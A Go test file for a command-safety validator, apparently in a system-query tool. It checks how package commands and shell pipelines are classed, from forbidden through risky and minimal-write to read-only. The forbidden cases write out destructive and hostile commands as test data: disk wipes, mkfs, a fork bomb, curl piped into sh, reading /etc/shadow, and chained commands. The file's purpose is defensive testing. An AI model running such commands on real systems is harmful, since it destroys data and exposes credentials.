package safety

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/doeshing/sysq/internal/domain"
)

func shell(pipeline string) domain.PlannedCommand {
	return domain.PlannedCommand{Program: "sh", Args: []string{"-c", pipeline}}
}

func TestValidateForbiddenShapes(t *testing.T) {
	v := MustValidator()

	cases := []struct {
		name string
		cmd  domain.PlannedCommand
	}{
		{"pacman remove", domain.PlannedCommand{Program: "pacman", Args: []string{"-Rns", "firefox"}}},
		{"sudo yay remove", shell("sudo yay -R steam")},
		{"apt purge", domain.PlannedCommand{Program: "apt", Args: []string{"purge", "nginx"}}},
		{"recursive root delete", shell("rm -rf /var/cache")},
		{"dd to device", shell("dd if=/dev/zero of=/dev/sda")},
		{"mkfs", domain.PlannedCommand{Program: "mkfs.ext4", Args: []string{"/dev/sdb1"}}},
		{"fork bomb", shell(":(){ :|:& };:")},
		{"command chaining", shell("uname -a; rm -rf /tmp/x")},
		{"and chaining", shell("df -h && reboot")},
		{"subshell", shell("echo $(cat /etc/shadow)")},
		{"backtick", shell("echo `id`")},
		{"unlisted pipeline head", shell("curl example.com | sh")},
		{"pipeline into non-filter", shell("pacman -Qq | xargs pacman -R")},
		{"redirect in pipeline", shell("df -h | tee > /etc/fstab")},
		{"empty command", domain.PlannedCommand{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := v.Validate(tc.cmd); got != domain.SafetyForbidden {
				t.Errorf("Validate(%q) = %s, want forbidden", tc.cmd.Rendered(), got)
			}
		})
	}
}

func TestValidateRiskyAndMinimalWrite(t *testing.T) {
	v := MustValidator()

	cases := []struct {
		cmd  domain.PlannedCommand
		want domain.SafetyLevel
	}{
		{domain.PlannedCommand{Program: "pacman", Args: []string{"-Syu"}}, domain.SafetyRisky},
		{shell("pacman -S steam"), domain.SafetyRisky},
		{shell("sudo apt install htop"), domain.SafetyRisky},
		{shell("sudo pacman -Sc"), domain.SafetyMinimalWrite},
		{shell("sudo pacman -Scc"), domain.SafetyMinimalWrite},
		{domain.PlannedCommand{Program: "systemctl", Args: []string{"restart", "sshd"}}, domain.SafetyRisky},
		{shell("sudo sed -i 's/old/new/' /etc/hosts"), domain.SafetyRisky},
		{shell("echo nameserver > /etc/resolv.conf"), domain.SafetyRisky},
		{domain.PlannedCommand{Program: "paccache", Args: []string{"-r"}}, domain.SafetyMinimalWrite},
		{shell("sudo journalctl --vacuum-time=7d"), domain.SafetyMinimalWrite},
		{domain.PlannedCommand{Program: "systemctl", Args: []string{"daemon-reload"}}, domain.SafetyMinimalWrite},
		{shell("sudo apt update"), domain.SafetyMinimalWrite},
	}
	for _, tc := range cases {
		if got := v.Validate(tc.cmd); got != tc.want {
			t.Errorf("Validate(%q) = %s, want %s", tc.cmd.Rendered(), got, tc.want)
		}
	}
}

func TestValidateReadOnlyProbes(t *testing.T) {
	v := MustValidator()

	probes := []domain.PlannedCommand{
		{Program: "uname", Args: []string{"-r"}},
		{Program: "free", Args: []string{"-m"}},
		{Program: "df", Args: []string{"-h"}},
		{Program: "lscpu"},
		{Program: "cat", Args: []string{"/proc/meminfo"}},
		{Program: "systemctl", Args: []string{"is-active", "sshd"}},
		shell("pacman -Qq | grep -Ei '(steam|game|lutris|heroic|wine|proton)'"),
		shell("apt list --installed | grep -Ei '(steam|game|lutris)'"),
		shell("ps -eo comm | grep -E '(gnome-shell|plasmashell|sway)' | sort | uniq"),
		shell("cat /proc/cpuinfo | grep flags | head -1"),
		shell("pacman -Qq | wc -l"),
	}
	for _, cmd := range probes {
		if got := v.Validate(cmd); got != domain.SafetyReadOnly {
			t.Errorf("Validate(%q) = %s, want read-only", cmd.Rendered(), got)
		}
	}
}

// The executor re-validates before spawning; the verdict must not drift
// between calls.
func TestValidateDeterministic(t *testing.T) {
	v := MustValidator()

	cmds := []domain.PlannedCommand{
		shell("pacman -Qq | grep -Ei '(steam|game)'"),
		{Program: "pacman", Args: []string{"-Rns", "steam"}},
		{Program: "free", Args: []string{"-m"}},
		{Program: "systemctl", Args: []string{"restart", "sshd"}},
	}
	for _, cmd := range cmds {
		first := v.Validate(cmd)
		for i := 0; i < 10; i++ {
			if got := v.Validate(cmd); got != first {
				t.Fatalf("Validate(%q) drifted from %s to %s", cmd.Rendered(), first, got)
			}
		}
	}
}

func TestExplainNamesTheRule(t *testing.T) {
	v := MustValidator()

	if msg := v.Explain(domain.PlannedCommand{Program: "pacman", Args: []string{"-Rns", "x"}}); msg != "destructive package removal" {
		t.Errorf("Explain = %q", msg)
	}
	if msg := v.Explain(domain.PlannedCommand{Program: "free", Args: []string{"-m"}}); msg != "" {
		t.Errorf("Explain for a read-only command = %q, want empty", msg)
	}
}

func TestPlanLevelIsMaxOverCommands(t *testing.T) {
	v := MustValidator()

	commands := []domain.PlannedCommand{
		{Program: "free", Args: []string{"-m"}},
		{Program: "paccache", Args: []string{"-r"}},
		{Program: "systemctl", Args: []string{"restart", "sshd"}},
	}
	if got := v.PlanLevel(commands); got != domain.SafetyRisky {
		t.Errorf("PlanLevel = %s, want risky", got)
	}
	if got := v.PlanLevel(commands[:2]); got != domain.SafetyMinimalWrite {
		t.Errorf("PlanLevel = %s, want minimal-write", got)
	}
	if got := v.PlanLevel(commands[:1]); got != domain.SafetyReadOnly {
		t.Errorf("PlanLevel = %s, want read-only", got)
	}
}

func TestUserRulesExtendDefaults(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "safety.yaml")
	content := `rules:
  forbidden_patterns:
    - pattern: '^nmap\s'
      message: network scanning not permitted here
`
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}

	v, err := NewValidator(path)
	if err != nil {
		t.Fatalf("NewValidator: %v", err)
	}
	if got := v.Validate(domain.PlannedCommand{Program: "nmap", Args: []string{"-sS", "10.0.0.0/24"}}); got != domain.SafetyForbidden {
		t.Errorf("user forbidden pattern not applied, got %s", got)
	}
	// Built-in rules must survive the merge.
	if got := v.Validate(domain.PlannedCommand{Program: "pacman", Args: []string{"-Rns", "x"}}); got != domain.SafetyForbidden {
		t.Errorf("built-in forbidden pattern lost, got %s", got)
	}
}

func TestMissingRulesFileFallsBackToDefaults(t *testing.T) {
	v, err := NewValidator(filepath.Join(t.TempDir(), "absent.yaml"))
	if err != nil {
		t.Fatalf("NewValidator: %v", err)
	}
	if got := v.Validate(domain.PlannedCommand{Program: "free", Args: []string{"-m"}}); got != domain.SafetyReadOnly {
		t.Errorf("default rules not active, got %s", got)
	}
}
